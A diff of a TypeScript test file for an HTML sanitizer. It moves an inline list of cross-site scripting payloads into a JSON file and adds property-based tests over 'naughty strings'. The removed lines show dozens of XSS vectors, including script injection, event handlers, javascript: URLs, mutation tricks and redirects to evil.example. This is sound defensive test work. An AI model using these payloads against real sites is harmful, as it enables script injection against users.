@@ -1,6 +1,8 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { sanitizedHtml } from './sanitize.ts';
+import naughtyStrings from '../../http/testing/naughty-strings.json' with { type: 'json' };
+import ownVectors from './testing/own-attack-vectors.json' with { type: 'json' };
 import vectors from './testing/html-attack-vectors.json' with { type: 'json' };
 
 const tags = new Set(['p', 'br', 'div', 'span', 'strong', 'em', 'u', 'a', 'ul', 'ol', 'li', 'b']);
@@ -38,47 +40,7 @@ function faultsOf(html: string): string[] {
   return faults;
 }
 
-const ours = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href=" &#1; javascript&colon;alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/\\evil.example">x</a>',
-  '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
-  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
-  '<div data-x="1" onfocus=alert(1) tabindex=1 autofocus>x</div>',
-  '<p class="a" class="b" id=x name=y>x</p>',
-  '<iframe src="javascript:alert(1)"></iframe><object data=x></object><embed src=x>',
-  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
-  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
-  '<style>@import url(//evil.example);</style><style><img src=x onerror=alert(1)></style>',
-  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>alert(1)</script>',
-  '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "<script>">]><p>&a;</p>',
-  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
-  '<p "><img src=x onerror=alert(1)>">x</p>',
-  '<a href="x\'"><img/src=x/onerror=alert(1)>',
-  '<b/x=1 onerror=alert(1)//<img src=x onerror=alert(1)>',
-  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '＜script＞alert(1)＜/script＞',
-  '<custom-element onclick=alert(1)>x</custom-element><div is="x-y" slot=a part=b>x</div>',
-  '<'.repeat(5_000),
-  `${'<div>'.repeat(2_000)}x`,
-  `<a href="${'a'.repeat(20_000)}">x</a>`,
-];
+const ours = [...ownVectors, '<'.repeat(5_000), `${'<div>'.repeat(2_000)}x`, `<a href="${'a'.repeat(20_000)}">x</a>`];
 
 describe('HTML that people wrote', () => {
   test.each(ours)('CMS-02 nothing that runs survives of ours %#', (payload) => {
@@ -93,9 +55,15 @@ describe('HTML that people wrote', () => {
     expect(sanitizedHtml(clean)).toBe(clean);
   });
 
+  test.each(naughtyStrings)('CMS-02 nothing that runs survives of the naughty string %j', (payload) => {
+    const clean = sanitizedHtml(payload);
+    expect(faultsOf(clean), clean.slice(0, 300)).toEqual([]);
+    expect(sanitizedHtml(clean)).toBe(clean);
+  });
+
   test('CMS-02 nothing that runs survives of anything pieced together', () => {
     const piece = fc.constantFrom(
-      ...ours.slice(0, 36).flatMap((payload) => [payload, payload.slice(0, payload.length >> 1), payload.slice(payload.length >> 1)]),
+      ...ownVectors.flatMap((payload) => [payload, payload.slice(0, payload.length >> 1), payload.slice(payload.length >> 1)]),
       '"',
       "'",
       '>',
